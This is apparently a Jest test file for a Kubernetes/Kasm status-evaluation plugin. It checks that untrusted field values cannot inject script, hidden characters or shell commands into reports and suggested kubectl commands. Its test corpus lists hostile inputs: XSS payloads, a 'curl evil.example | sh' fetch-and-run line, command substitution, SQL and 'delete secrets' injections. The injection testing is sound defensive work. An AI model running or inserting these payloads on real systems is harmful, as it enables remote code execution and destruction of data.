import {
  command,
  describeCheck,
  type StatusDocument,
} from '@kasm-portal/backstage-plugin-kasm-common';
import {
  healthyObservation,
  NOW,
} from '../evaluate/__fixtures__/healthyObservation';
import { TROUBLE } from '../evaluate/__fixtures__/trouble';
import { evaluate } from '../evaluate/evaluate';
import type { Observation } from '../observation/Observation';

jest.setTimeout(120_000);

/** What somebody who can make a pod, an image, a node or a session would write. */
/* eslint-disable no-script-url */
const CORPUS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)//',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '<!--#exec cmd="id"-->{{constructor.constructor("alert(1)")()}}',
  'kasm; curl evil.example | sh',
  '$(curl evil.example)`id`',
  "'; DROP DATABASE kasm; --",
  '-n kube-system delete secrets --all',
  '--kubeconfig=/etc/passwd',
  'kasm\nkubectl delete ns kasm',
  'kasm\u0000\u0007\u001b[2J\u009b31m\u0085',
  'gnp.\u202exe.txt\u2066\u2069\u200b\u200d\u2060\ufeff',
  '\ud800\udfff\udc00\ue000\uffff',
  '\u2028\u2029\u061c\u180e\u00ad',
];

/** Words of the observation's own that say what kind of thing something is: no cluster writes them. */
const OWN = new Set(['state', 'from', 'kind', 'delivery']);

type Place = { holder: any; key: string; path: string };

function placesIn(value: unknown, path = ''): Place[] {
  if (typeof value !== 'object' || value === null) {
    return [];
  }
  return Object.entries(value).flatMap(([key, item]) =>
    typeof item === 'string'
      ? [{ holder: value, key, path: `${path}.${key}` }]
      : placesIn(item, `${path}.${key}`),
  );
}

function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') {
    return [value];
  }
  return typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([key, item]) => [key, ...stringsIn(item)])
    : [];
}

function commandsOf({ findings, checks, deployment }: StatusDocument) {
  return [
    ...checks.flatMap(({ id }) => describeCheck(id, deployment).command ?? []),
    ...findings.flatMap(({ remedy }) =>
      remedy.flatMap(step => step.command ?? []),
    ),
  ];
}

/** Nothing that is said may hide or turn text, and what is copied into a shell holds names only. */
function wrongWith(status: StatusDocument, text: string): string[] {
  const commands = commandsOf(status);
  // A word of the text that is a name by itself may be there: `kasm` is one.
  const words = text.split(/[^a-zA-Z0-9.-]+/).filter(word => word.length > 3);
  return [
    ...stringsIn(status).filter(line =>
      // eslint-disable-next-line no-control-regex
      /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ue000-\uf8ff\ufeff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(
        line,
      ),
    ),
    ...commands.filter(line => line.includes(text) || /[^ -~]/.test(line)),
    ...commands.filter(
      line =>
        /alert|evil|DROP|passwd|onerror/.test(line) &&
        words.some(word => line.includes(word)),
    ),
  ];
}

const CAUSES: Array<[string, (observation: Observation) => void]> = [
  ['nothing', () => {}],
  ...Object.entries(TROUBLE),
];

describe('SEC-31, SEC-32: what others may write', () => {
  it('in any one field of a healthy deployment, is text and nothing else', () => {
    const wrong: string[] = [];
    const places = placesIn(healthyObservation()).length;
    expect(places).toBeGreaterThan(200);
    for (let at = 0; at < places; at += 1) {
      for (const text of CORPUS) {
        const observation = healthyObservation();
        const { holder, key, path } = placesIn(observation)[at];
        holder[key] = text;
        wrong.push(
          ...wrongWith(evaluate(observation, NOW), text).map(
            line => `${path}: ${line}`,
          ),
        );
      }
    }
    expect(wrong).toEqual([]);
  });

  it.each(CAUSES)('in every field at once, with %s, is text', (_, cause) => {
    const wrong: string[] = [];
    for (const text of CORPUS) {
      const observation = healthyObservation();
      cause(observation);
      for (const { holder, key } of placesIn(observation)) {
        if (!OWN.has(key) && !/T\d\d:\d\d/.test(holder[key])) {
          holder[key] = text;
        }
      }
      wrong.push(...wrongWith(evaluate(observation, NOW), text));
    }
    expect(wrong).toEqual([]);
  });

  it('as a name that commands would hold, leaves a placeholder in its place', () => {
    for (const text of CORPUS) {
      expect(command`kubectl -n ${text} get pods`).toBe(
        'kubectl -n NAME get pods',
      );
    }
  });

  it('makes links to nowhere but the host that was checked', () => {
    const observation = healthyObservation();
    const { host } = observation.deployment;
    const bad = new Set(['deployment']);
    for (const [source, sighting] of Object.entries(observation)) {
      if (!bad.has(source)) {
        for (const { holder, key } of placesIn(sighting)) {
          if (!OWN.has(key)) holder[key] = 'https://evil.example/';
        }
      }
    }
    const { deployment, findings } = evaluate(observation, NOW);
    expect(new URL(deployment.url)).toMatchObject({
      protocol: 'https:',
      hostname: host,
    });
    for (const { runbook } of findings) {
      expect(runbook).toMatch(/^[a-z]+\/#[a-z-]+$/);
    }
  });
});
